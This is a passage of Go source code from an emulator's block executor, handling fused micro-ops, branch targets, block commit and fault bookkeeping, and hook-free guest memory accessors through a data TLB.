			regs[isa.ESP] += 4
			return m.blockCommit(ii+1, v, b.EndTrap, uint64(b.Fused))
		case isa.UJmp:
			return m.blockCommit(ii+1, uopTarget(regs, u, pc), b.EndTrap, uint64(b.Fused))
		case isa.UJcc:
			// Taken: side exit. Not taken: the block continues at the
			// fall-through instruction, which is the next micro-op.
			if isa.CondTaken(u.Op, m.CPU.Flags.Z, m.CPU.Flags.S) {
				return m.blockCommit(ii+1, uopTarget(regs, u, pc), TrapNone, fusedIn(uops, ui+1))
			}
		case isa.UCall:
			regs[isa.ESP] -= 4
			if _, err := m.rawWrite32(regs[isa.ESP], pc+isa.InstrSize); err != nil {
				regs[isa.ESP] += 4
				return m.blockFault(ii, pc, err)
			}
			return m.blockCommit(ii+1, uopTarget(regs, u, pc), b.EndTrap, uint64(b.Fused))
		case isa.USyscall, isa.UHlt:
			return m.blockCommit(ii+1, pc+isa.InstrSize, b.EndTrap, uint64(b.Fused))
		case isa.UCmpJccRR, isa.UCmpJccRI:
			a := regs[u.A]
			v := u.Imm
			if u.Kind == isa.UCmpJccRR {
				v = regs[u.B]
			}
			z, s := a == v, int32(a) < int32(v)
			m.CPU.Flags.Z, m.CPU.Flags.S = z, s
			if isa.CondTaken(u.Op, z, s) {
				return m.blockCommit(ii+2, uopTarget2(u, pc), TrapNone, fusedIn(uops, ui+1))
			}
		case isa.UAluJmp:
			regs[u.A] = isa.EvalALU(u.Op, regs[u.A], u.Imm)
			return m.blockCommit(ii+2, uopTarget2(u, pc), b.EndTrap, uint64(b.Fused))
		case isa.UMemMoveB:
			v, _, err := m.rawRead8(regs[u.A] + regs[u.B])
			if err != nil {
				return m.blockFault(ii, pc, err)
			}
			regs[u.Imm] = v
			// The load retired; the store is the second instruction.
			if _, err := m.rawWrite8(regs[u.C]+regs[u.D], byte(v)); err != nil {
				return m.blockFault(ii+1, pc+isa.InstrSize, err)
			}
			if m.blockEpoch != epoch {
				return m.blockCommit(ii+2, pc+2*isa.InstrSize, TrapNone, fusedIn(uops, ui+1))
			}
		}
		ii += uint32(u.N)
	}
	// Page-end cut: fall through to the next page.
	return m.blockCommit(ii, base+ii*isa.InstrSize, TrapNone, uint64(b.Fused))
}

// blockCommit finalizes a (possibly partial) block execution.
func (m *Machine) blockCommit(retired, next uint32, trap Trap, fused uint64) (uint64, Trap, error) {
	m.CPU.EIP = next
	m.InstrCount += uint64(retired)
	m.bstats.FusedOps += fused
	return uint64(retired), trap, nil
}

// blockFault finalizes a mid-block fault: retired instructions commit, EIP
// points at the faulting instruction (Step's contract), and the error is
// the same *FaultError a Step sequence would have produced.
func (m *Machine) blockFault(retired, pc uint32, err error) (uint64, Trap, error) {
	m.CPU.EIP = pc
	m.InstrCount += uint64(retired)
	return uint64(retired), TrapFault, &FaultError{PC: pc, Err: err}
}

// fusedIn counts superinstructions among the first n micro-ops.
func fusedIn(uops []isa.Uop, n int) uint64 {
	var c uint64
	for i := 0; i < n && i < len(uops); i++ {
		if uops[i].IsFused() {
			c++
		}
	}
	return c
}

// uopTarget resolves a single-instruction control transfer's destination.
func uopTarget(regs *[isa.NumRegs]uint32, u *isa.Uop, pc uint32) uint32 {
	switch u.D {
	case 1:
		return pc + isa.InstrSize + uint32(int32(u.Imm))
	case 2:
		return regs[u.A]
	}
	return u.Imm
}

// uopTarget2 resolves the branch destination of a fused compare-and-branch
// or ALU-and-jump micro-op (the branch is the second instruction, at
// pc + InstrSize).
func uopTarget2(u *isa.Uop, pc uint32) uint32 {
	if u.D == 1 {
		return pc + 2*isa.InstrSize + uint32(int32(u.Imm2))
	}
	return u.Imm2
}

// UopTarget resolves a control-transfer micro-op's destination against the
// given register file; UopTarget2 is the fused-pair form. Exported for the
// fused engine executor.
func UopTarget(regs *[isa.NumRegs]uint32, u *isa.Uop, pc uint32) uint32 {
	return uopTarget(regs, u, pc)
}

// UopTarget2 resolves the branch target of a fused superinstruction.
func UopTarget2(u *isa.Uop, pc uint32) uint32 { return uopTarget2(u, pc) }

// --- raw data accessors (no hooks) ---
//
// The block executors run only when no memory hooks are registered, so
// these skip the hook loops; the Step helpers layer hooks on top.

func (m *Machine) rawRead32(va uint32) (uint32, mem.PhysAddr, error) {
	pa, ok := m.lookupPA(va, 0)
	if !ok {
		var err error
		if pa, err = m.dataPAFill(va, mem.AccessRead, &m.dtlb[0]); err != nil {
			return 0, 0, err
		}
	}
	if off := pa.Offset(); off <= mem.PageSize-4 {
		f, ferr := m.phys.Frame(pa.Frame())
		if ferr != nil {
			return 0, 0, ferr
		}
		return binary.LittleEndian.Uint32(f[off : off+4]), pa, nil
	}
	v, err := m.space.Read32(va, mem.AccessRead)
	if err != nil {
		return 0, 0, err
	}
	return v, pa, nil
}

func (m *Machine) rawRead8(va uint32) (uint32, mem.PhysAddr, error) {
	pa, ok := m.lookupPA(va, 0)
	if !ok {
		var err error
		if pa, err = m.dataPAFill(va, mem.AccessRead, &m.dtlb[0]); err != nil {
			return 0, 0, err
		}
	}
	b, err := m.phys.ReadByteAt(pa)
	if err != nil {
		return 0, 0, err
	}
	return uint32(b), pa, nil
}

func (m *Machine) rawWrite32(va, v uint32) (mem.PhysAddr, error) {
	pa, ok := m.lookupPA(va, 1)
	if !ok {
		var err error
		if pa, err = m.dataPAFill(va, mem.AccessWrite, &m.dtlb[1]); err != nil {
			return 0, err
		}
	}
	if off := pa.Offset(); off <= mem.PageSize-4 {
		f, ferr := m.phys.Frame(pa.Frame())
		if ferr != nil {
			return 0, ferr
		}
		binary.LittleEndian.PutUint32(f[off:off+4], v)
		m.InvalidateFrame(pa.Frame())
	} else {
		if err := m.space.Write32(va, v); err != nil {
			return 0, err
		}
		m.InvalidateFrame(pa.Frame())
		if pa2, err2 := m.space.Translate(va+3, mem.AccessWrite); err2 == nil {
			m.InvalidateFrame(pa2.Frame())
		}
	}
	return pa, nil
}

func (m *Machine) rawWrite8(va uint32, v byte) (mem.PhysAddr, error) {
	pa, ok := m.lookupPA(va, 1)
	if !ok {
		var err error
		if pa, err = m.dataPAFill(va, mem.AccessWrite, &m.dtlb[1]); err != nil {
			return 0, err
		}
	}
	if err := m.phys.WriteByteAt(pa, v); err != nil {
		return 0, err
	}
	m.InvalidateFrame(pa.Frame())
	return pa, nil
}

// DataRead32 loads a word from guest data memory without firing hooks,
// returning the translated physical address. For the fused engine.
func (m *Machine) DataRead32(va uint32) (uint32, mem.PhysAddr, error) { return m.rawRead32(va) }

// DataRead8 loads a byte (zero-extended) without firing hooks.
func (m *Machine) DataRead8(va uint32) (uint32, mem.PhysAddr, error) { return m.rawRead8(va) }

// DataWrite32 stores a word without firing hooks, invalidating cached
// decodes and blocks for the written frames.
func (m *Machine) DataWrite32(va, v uint32) (mem.PhysAddr, error) { return m.rawWrite32(va, v) }

// DataWrite8 stores a byte without firing hooks.
func (m *Machine) DataWrite8(va uint32, v byte) (mem.PhysAddr, error) { return m.rawWrite8(va, v) }

// DataPA translates a data access through the data TLB without touching
// memory — the fused engine's pre-store cleanliness probe.
func (m *Machine) DataPA(va uint32, kind mem.AccessKind) (mem.PhysAddr, error) {
	return m.dataPA(va, kind)
}
